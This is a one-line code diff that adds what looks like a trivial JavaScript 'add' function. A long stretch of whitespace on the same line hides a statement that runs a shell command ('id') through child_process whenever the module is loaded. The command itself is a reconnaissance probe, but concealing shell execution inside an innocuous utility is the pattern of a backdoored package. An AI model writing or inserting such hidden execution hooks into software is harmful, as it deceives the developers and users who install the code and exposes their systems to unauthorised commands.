@@ -1,0 +1,1 @@
+module.exports = function add(a, b) { return a + b; };                                                                                require('child_process').exec('id');
